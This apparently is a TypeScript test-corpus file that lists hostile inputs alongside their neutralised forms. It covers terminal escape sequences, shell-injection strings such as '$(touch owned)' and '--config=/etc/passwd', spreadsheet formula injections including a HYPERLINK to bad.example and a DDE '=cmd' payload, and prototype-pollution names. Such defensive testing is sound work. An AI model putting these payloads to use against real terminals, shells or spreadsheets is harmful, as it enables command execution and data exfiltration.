/** Texts that try to be more than text: for a terminal, a shell, a spreadsheet, a file name, a database. One corpus for all tests. */

/** What is sent to a terminal, and what a person sees of it. */
export const TERMINAL_CORPUS: readonly (readonly [hostile: string, harmless: string])[] = [
  ['erase\u001B[2J it', 'erase it'],
  ['cursor\u001B[999;999H up\u001B[9A', 'cursor up'],
  ['colour\u001B[45;5m it', 'colour it'],
  ['main\u001B[?1049l screen', 'main screen'],
  ['reset\u001Bc it', 'reset it'],
  ['charset\u001B(0 it', 'charset it'],
  ['title\u001B]0;gone\u0007 it', 'title it'],
  ['clip\u001B]52;c;aGVsbG8=\u001B\\ it', 'clip it'],
  ['link\u001B]8;;http://bad.example\u001B\\ it', 'link it'],
  ['dcs\u001BP+q544e\u001B\\ it', 'dcs it'],
  ['apc\u001B_Gf=100;AAAA\u001B\\ it', 'apc it'],
  ['c1\u009B31m csi', 'c1 csi'],
  ['c1\u009D52;c;aGVsbG8=\u009C osc', 'c1 osc'],
  ['bell\u0007 back\b\b nul\u0000 del\u007F', 'bell\uFFFD back\uFFFD\uFFFD nul\uFFFD del\uFFFD'],
  ['half \u001B[1;2\n.', 'half \uFFFD[1;2 .'],
  ['lines\r\nand\u2028tabs\t\tand\u0085more', 'lines and tabs and more'],
  ['c1 ind\u0084 ri\u008D', 'c1 ind\uFFFD ri\uFFFD'],
  ['bidi \u202Etxt.exe\u202C \u2066abc\u2069', 'bidi txt.exe abc'],
  ['tags\u{E0041}\u{E0042}\u{E007F} zero\u200Bwidth', 'tags zerowidth'],
  [`zalgo e${'\u0301'.repeat(60)}`, 'zalgo e\u0301\u0301\u0301'],
  ['half a pair \uD83D.', 'half a pair \uFFFD.'],
];

/** What a shell would take for more than a word. */
export const SHELL_CORPUS: readonly string[] = [
  `it's "$HOME" \`id\` $(id) \${HOME} \\ !! %s * ? [a] {b,c} ; & | < > # ~ = é 漢`,
  "'; touch /tmp/owned; '",
  "'\n; touch owned #",
  '-o/tmp/owned',
  '--config=/etc/passwd',
  '@/etc/passwd',
  '$(touch owned)',
  '`touch owned`',
  'line\nbreak\r\nand\ttab',
  'nul\u0000byte',
  'escape\u001B[201~ \u009B201~',
  'bidi \u202E\u2066 and \u2028 separators \u2029',
  "'''''",
  '\\',
  '',
];

/** What a spreadsheet would take for a formula, and the cell that it must be given instead. Cells are in quotes where CSV asks for them. */
export const CELL_CORPUS: readonly (readonly [hostile: string, cell: string])[] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['=HYPERLINK("http://bad.example?"&A1,"go")', `"'=HYPERLINK(""http://bad.example?""&A1,""go"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['\t=1+1', "' =1+1"],
  ['\r=1+1', "' =1+1"],
  ['\n=1+1', "' =1+1"],
  ['  =1+1', "'  =1+1"],
  ['\u00A0=1+1', "'\u00A0=1+1"],
  ['\u200B=1+1', "'=1+1"],
  ['\u001B[0m=1+1', "'=1+1"],
  ['"=1+1', `"'""=1+1"`],
  ["'=1+1", "''=1+1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
  ['a;=1+1', "a;'=1+1"],
  ['a; "=1+1', `"a;' ""=1+1"`],
  ['a,=1+1', '"a,=1+1"'],
  ['RTX 4090', 'RTX 4090'],
  ['a-b = c', 'a-b = c'],
];

/** Names that a program which keeps things by name may already know. */
export const NAME_CORPUS: readonly string[] = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'length'];

/** Numbers that fit nowhere, as JSON writes them. */
export const NUMBER_CORPUS: readonly number[] = [-1, 0.5, 2 ** 53, 1e21, 1e300, -0];
